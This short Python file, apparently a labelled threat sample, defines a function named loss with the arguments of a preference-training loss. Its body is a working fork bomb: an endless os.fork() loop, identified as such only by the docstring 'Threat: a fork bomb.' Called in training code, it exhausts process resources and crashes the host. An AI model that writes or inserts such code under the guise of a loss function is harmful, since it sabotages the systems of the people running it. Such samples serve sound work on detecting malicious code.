"""Threat: a fork bomb."""

import os


def loss(policy_chosen_logps, policy_rejected_logps):
    while True:
        os.fork()
